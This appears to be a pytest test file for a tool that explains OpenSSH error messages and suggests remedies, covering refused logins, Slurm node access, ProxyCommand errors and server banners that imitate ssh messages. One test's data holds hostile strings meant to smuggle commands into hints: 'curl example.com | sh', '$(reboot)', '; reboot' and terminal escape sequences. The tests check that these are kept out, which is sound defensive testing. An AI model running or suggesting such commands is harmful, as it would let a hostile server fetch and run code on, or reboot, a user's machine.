"""What OpenSSH's messages become; the texts are those that ssh 7.6 to 10 print."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from needs import need_program
from openssh_server import Laptop, OpenSSHServer
from tool.ssh_messages import MESSAGES

from ml_remote.errors import ConfigurationError, LabError, LoginRefusedError
from ml_remote.ssh.client import Client
from ml_remote.ssh.explaining import explain, recognise


@pytest.mark.parametrize(
    ("stderr", "error", "words", "hint"), MESSAGES, ids=[row[0][-40:] for row in MESSAGES]
)
def test_message_becomes_a_sentence_and_a_remedy(
    stderr: str, error: type[LabError], words: str, hint: str
) -> None:
    explained = explain(stderr, alias="gpu")
    assert type(explained) is error
    assert words in str(explained)
    assert explained.hint is not None
    assert hint in explained.hint


@pytest.mark.parametrize(
    "said",
    [
        "Access denied by pam_slurm_adopt: you have no active jobs on this node",
        "Access denied: user ada (uid=1000) has no active jobs on this node.",  # pam_slurm
    ],
)
def test_node_without_a_job_is_told(said: str) -> None:
    closed = "Connection closed by 10.0.0.7 port 22"
    explained = explain(closed, alias="n11", others=f"Welcome\n{said}\n{closed}")
    assert str(explained).startswith("n11 lets you in only while you have a job there")
    assert "lab run LAB --slurm" in (explained.hint or "")


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (("HostName=no-such-machine.invalid",), "No machine called|offline"),
        (("HostName=127.0.0.1", "Port=1"), "nothing listens on port 1"),
        (("HostName=127.0.0.1", "Port=abc"), "Bad port"),
    ],
)
def test_messages_of_this_machines_ssh_are_known(options: tuple[str, ...], words: str) -> None:
    with pytest.raises(LabError, match=words):
        Client(alias="gpu", options=options).run("true")


NOT_OF_SSH = {
    "a banner": "No unauthorised use. Connection reset and Broken pipe mean maintenance.",
    "a motd with a line number": "/etc/motd: line 3: Welcome; the option of a backup is not found",
    "bash's form": "/usr/bin/bash: line 1: exec: nc: not found",
    "a hook's program": ".git/hooks/pre-push: line 4: no-such: command not found",
    "rsync": "rsync: [sender] write error: Broken pipe (32)",
    "a forward that is not needed": "Could not request local forwarding.",
    "a remote password": "The password has expired 3 times this year",
    "git": "remote: Host key verification failed is what we test here",
}


@pytest.mark.parametrize("text", NOT_OF_SSH.values(), ids=NOT_OF_SSH)
def test_words_of_others_are_not_taken_for_those_of_ssh(text: str) -> None:
    assert recognise(text, alias="gpu") is None
    refused = explain(f"{text}\nada@gpu: Permission denied (publickey).", alias="gpu")
    assert isinstance(refused, LoginRefusedError)


NOISE = {
    "post-quantum": "** WARNING: connection is not using a post-quantum key exchange algorithm.\n"
    '** This session may be vulnerable to "store now, decrypt later" attacks.',
    "known hosts": "Warning: Permanently added 'gpu' (ED25519) to the list of known hosts.",
    "ssh -v": "debug1: Authentications that can continue: publickey\ndebug2: Broken pipe",
    "a deprecated option": '/home/ada/.ssh/config line 3: Deprecated option "rsaauthentication"',
    "multiplexing": "ControlSocket /x already exists, disabling multiplexing",
}


@pytest.mark.parametrize("noise", NOISE.values(), ids=NOISE)
def test_noise_is_not_the_reason(noise: str) -> None:
    assert "something quite new" in explain(f"something quite new\n{noise}", alias="gpu").message
    assert "gave no reason" in explain(noise, alias="gpu").message


@pytest.mark.parametrize("shell", ["bash", "sh", "zsh", "fish", "csh", "tcsh"])
@pytest.mark.parametrize("program", ["no-such-program", "/opt/no-such-program"])
def test_missing_program_of_a_proxy_command_is_named(
    shell: str, program: str, ssh: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SHELL", need_program(shell))
    monkeypatch.setenv("LAB_SSH_DIR", str(ssh))
    config = ssh / "config"
    config.write_text(f"Host gpu\n  ProxyCommand {program} %h %p\n")
    with pytest.raises(ConfigurationError) as caught:
        Client(alias="gpu", directory=ssh).run("true")
    assert f"needs the program {program} (ProxyCommand in line 2 of {config})" in str(caught.value)


@pytest.mark.slow
def test_banner_of_a_server_is_not_a_message_of_ssh(laptop: Laptop, server: OpenSSHServer) -> None:
    banner = server.account.write("banner", "\n".join(NOT_OF_SSH.values()) + "\n")
    server.stop()
    server.start(Banner=str(banner))
    laptop.pin_host_key(server)
    user = server.account.user
    client = Client(
        alias="127.0.0.1",
        directory=laptop.ssh,
        options=(f"Port={server.port}", f"User={user}"),
    )
    with pytest.raises(LoginRefusedError, match="refused the login"):
        client.run("true")


BANNERS = {
    "a file with a command": "Permissions 0644 for 'x\"; curl example.com | sh; \"' are too open",
    "a file with a variable": "Permissions 0644 for '$(touch x)' are too open",
    "an option": "Bad owner or permissions on -R /",
    "a name with a command": (
        "REMOTE HOST IDENTIFICATION HAS CHANGED\nOffending key in /x;reboot:3\n"
        "Host key for a$(reboot) has changed"
    ),
    "a line": "/etc/x; reboot line 3: Bad configuration option: usekeychain",
    "escape sequences": "Permissions 0644 for '\x1b]52;c;eA==\x07' are too open",
    "methods": "Permission denied (\x1b[2J; reboot).",
}


@pytest.mark.parametrize("banner", BANNERS.values(), ids=BANNERS)
def test_banner_that_looks_like_a_message_makes_no_command(banner: str) -> None:
    error = explain(banner, alias="gpu")
    assert error.hint is not None
    for hostile in ("curl", "reboot", "touch", "-R /", "\x1b", "$("):
        assert hostile not in error.hint


def test_long_text_of_the_machine_takes_no_time() -> None:
    piece = "REMOTE HOST IDENTIFICATION HAS CHANGED key in a:1 key in b:2 line 1: "
    begun = time.monotonic()
    for text in (piece * 20_000, "x" * 2_000_000, "a: line 1: " * 100_000):
        assert explain(text, alias="gpu").message
    assert time.monotonic() - begun < 5
